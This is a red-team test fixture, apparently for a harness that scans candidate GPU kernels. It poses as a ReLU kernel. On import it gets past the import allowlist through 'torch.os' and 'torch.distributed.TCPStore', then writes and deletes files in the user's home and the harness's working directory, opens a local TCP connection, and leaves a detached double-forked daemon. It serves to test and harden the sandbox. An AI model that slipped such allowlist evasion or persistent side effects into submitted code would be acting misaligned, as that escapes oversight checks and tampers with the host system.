"""RED TEAM, security (files, network, daemons) using only imports an allowlist would keep (torch,
triton, datetime) and literal attribute names: `torch.os` is the `os` module and
`torch.distributed.TCPStore` is a TCP client. At import the candidate creates a file in the user's
home and in the project (kiln's working directory), deletes a file from each, connects to a TCP server on 127.0.0.1 (the
test's), and leaves a double-forked daemon (`sleep __TOKEN__`) in a session of its own. Then it is
an honest ReLU.
Today: `ok`, and every side effect happens. Stopped by the allowlist (module-valued attributes such
as `torch.os`, `torch.distributed`) and by the OS sandbox."""

import datetime

import torch


def _kiln_pid():
    """kiln's process: our parent is its fork server, whose parent is kiln."""
    fd = torch.os.open(f"/proc/{torch.os.getppid()}/stat", torch.os.O_RDONLY)
    stat = torch.os.read(fd, 4096).decode()
    torch.os.close(fd)
    return int(stat.rsplit(")", 1)[1].split()[1])


for folder in (torch.os.path.expanduser("~"), torch.os.readlink(f"/proc/{_kiln_pid()}/cwd")):
    fd = torch.os.open(folder + "/redteam-created.txt", torch.os.O_WRONLY | torch.os.O_CREAT, 0o644)
    torch.os.write(fd, b"written by a candidate kernel")
    torch.os.close(fd)
    if torch.os.path.exists(folder + "/redteam-victim.txt"):
        torch.os.unlink(folder + "/redteam-victim.txt")

# the store's handshake fails after the connection; kiln's scan only warns about a module-level try
try:  # noqa: SIM105 - contextlib.suppress would be a static rejection
    torch.distributed.TCPStore("127.0.0.1", int("__PORT__"), is_master=False, wait_for_workers=False,
                               timeout=datetime.timedelta(seconds=1))
except Exception:
    pass

child = torch.os.fork()
if child == 0:
    torch.os.setsid()
    if torch.os.fork() == 0:
        torch.os.execv("/bin/sleep", ["/bin/sleep", "__TOKEN__"])
    torch.os._exit(0)
torch.os.waitpid(child, 0)


# <include relu_kernel>
